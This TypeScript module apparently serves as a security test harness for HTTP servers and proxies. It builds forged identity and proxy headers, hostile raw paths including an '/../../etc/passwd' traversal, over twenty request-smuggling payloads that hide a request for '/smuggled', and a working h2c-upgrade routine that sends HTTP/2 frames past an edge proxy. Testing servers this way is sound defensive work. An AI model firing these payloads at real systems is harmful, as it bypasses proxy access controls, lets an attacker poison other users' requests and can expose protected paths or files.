import { once } from "node:events";
import { open, statuses } from "./raw-http.ts";

/** Headers with which a client may try to deceive an app. Each name is also tried with underscores. */
const claims = [
  ..."For Host Proto Port Server Prefix Scheme Protocol Ssl User Email Groups Preferred-Username Access-Token".split(
    " ",
  ),
  ..."By Path Uri Method Client-Cert Tls-Client-Cert".split(" "),
].map((end) => `X-Forwarded-${end}`);
const otherClaims = [
  ..."X-Forwarded Forwarded Proxy X-Real-IP X-Client-IP Client-IP True-Client-IP CF-Connecting-IP".split(" "),
  ..."X-Cluster-Client-IP X-Original-Forwarded-For X-Original-Host X-Original-URL X-Original-URI".split(" "),
  ..."X-Original-Method X-Rewrite-URL X-URL-Scheme X-HTTP-Method X-HTTP-Method-Override X-Forwarded-Made-Up X-Original-Made-Up".split(
    " ",
  ),
  ..."X-Method-Override Front-End-Https HTTP2-Settings X-Scheme X-Host Forwarded-For Proxy-Client-IP".split(
    " ",
  ),
  ..."WL-Proxy-Client-IP Fastly-Client-IP Fly-Client-IP CF-Pseudo-IPv4 X-Appengine-User-IP".split(" "),
  ..."X-Azure-ClientIP X-Sendfile-Type X-Accel-Mapping".split(" "),
];

/** Headers that all contain the word, with every name that some framework trusts. */
export function forgedHeaders(word: string): Record<string, string> {
  const names = [...claims, ...otherClaims];
  const variants = names.flatMap((name) => [name, name.replaceAll("-", "_"), name.replace("-", "_")]);
  return Object.fromEntries(variants.map((name) => [name, word]));
}

/** Raw paths that could break a log or a parser. */
export const hostilePaths: readonly Buffer[] = [
  "/%ff",
  "/%ff%fe%0a%22%5c",
  "/%00",
  '/"quoted"\\back',
  "/%22%2c%22status%22%3a200",
  "/\xff\xfe",
  "/\xc3",
  "/caf\xc3\xa9",
  "/\xed\xa0\x80",
  "/%e2%80%ae%1b%5b2J",
  "/{}[]<>|^`",
  "/a?secret=%ff",
  "/../../etc/passwd",
  "//double//slash",
  `/${"long/".repeat(1000)}`,
  "/a;b=c#fragment",
  "/%",
  "/%zz",
].map((path) => Buffer.from(path, "latin1"));

const head = "Host: edge\r\n";
const inner = "GET /smuggled HTTP/1.1\r\nHost: edge\r\n\r\n";
const chunk = `0\r\n\r\n${inner}`;

/** Requests that two servers may parse differently. The hidden request asks for /smuggled. */
export const smuggling: Readonly<Record<string, string>> = {
  "length and chunks": post(`Content-Length: ${chunk.length}\r\nTransfer-Encoding: chunked`, chunk),
  "chunks and length": post(`Transfer-Encoding: chunked\r\nContent-Length: 4`, chunk),
  "two lengths": post(`Content-Length: 0\r\nContent-Length: ${inner.length}`, inner),
  "a list of lengths": post(`Content-Length: 0, ${inner.length}`, inner),
  "a length with a sign": post(`Content-Length: +0`, inner),
  "a negative length": post(`Content-Length: -1`, inner),
  "a length in hex": post(`Content-Length: 0x0`, inner),
  "a length too long to count": post(`Content-Length: 18446744073709551616`, inner),
  "two codings": post(`Transfer-Encoding: chunked\r\nTransfer-Encoding: identity`, chunk),
  "an unknown coding": post(`Transfer-Encoding: xchunked`, chunk),
  "a coding after a tab": post(`Transfer-Encoding:\tchunked\r\nContent-Length: 4`, chunk),
  "a coding with a vertical tab": post(`Transfer-Encoding: \vchunked\r\nContent-Length: 4`, chunk),
  "a blank before the colon": post(`Transfer-Encoding : chunked\r\nContent-Length: 4`, chunk),
  "a folded header": post(`Transfer-Encoding:\r\n chunked\r\nContent-Length: 4`, chunk),
  "an underscore": post(`Transfer_Encoding: chunked\r\nContent-Length: ${chunk.length}`, chunk),
  "a chunk size that overflows": post("Transfer-Encoding: chunked", `fffffffffffffffff\r\n${inner}`),
  "a chunk size with a sign": post("Transfer-Encoding: chunked", `-1\r\n${inner}`),
  "a zero byte": post(`X: a\0b\r\nContent-Length: ${inner.length}`, inner),
  "a bare carriage return": post(
    `X: a\rTransfer-Encoding: chunked\r\nContent-Length: ${chunk.length}`,
    chunk,
  ),
  "chunks in HTTP/1.0": `POST / HTTP/1.0\r\n${head}Transfer-Encoding: chunked\r\n\r\n${chunk}`,
  "a length of a GET": `GET / HTTP/1.1\r\n${head}Content-Length: ${inner.length}\r\n\r\n${inner}`,
  "a tunnel": `CONNECT edge:80 HTTP/1.1\r\n${head}\r\n${inner}`,
  "a preface of HTTP/2": `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${inner}`,
};

function post(headers: string, body: string): string {
  return `POST / HTTP/1.1\r\n${head}${headers}\r\n\r\n${body}`;
}

/** An upgrade request, in spellings that a filter may miss. */
export function upgradeRequest(upgrade: string): string {
  const settings = "HTTP2-Settings: AAMAAABkAAQAAP__";
  return `GET /h2c HTTP/1.1\r\n${head}Connection: Upgrade, HTTP2-Settings\r\n${upgrade}\r\n${settings}\r\n\r\n`;
}

export const upgrades = [
  "h2c",
  "H2C",
  "websocket, h2c",
  "h2c, websocket",
  "h2c\r\nUpgrade: websocket",
  "websocket\r\nUpgrade: h2c",
  "websocketx",
  "x websocket",
  " h2c ",
];

/** Requests HTTP/2 on a connection and then, past all proxies, a path. Returns the answer, or the status of the refusal. */
export async function speakPastEdge(url: string, upgrade: string, path: string): Promise<string | number> {
  const socket = await open(url);
  socket.write(upgradeRequest(`Upgrade: ${upgrade}`));
  const [first]: Buffer[] = await once(socket, "data");
  const [status = 0] = statuses(String(first));
  if (status !== 101) {
    socket.destroy();
    return status;
  }
  // Stream 1 belongs to the request that was upgraded.
  socket.end(Buffer.concat([preface, frame(4, 0, 0, Buffer.alloc(0)), frame(1, 5, 3, askFor(path))]));
  let answer = "";
  for await (const part of socket) answer += Buffer.from(part).toString("latin1");
  return answer.includes(path) ? path : answer;
}

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK with the static table only: GET, http, a path, an authority. */
function askFor(path: string): Buffer {
  const literal = (index: number, text: string) => Buffer.from([index, text.length, ...Buffer.from(text)]);
  return Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, path), literal(1, "edge")]);
}
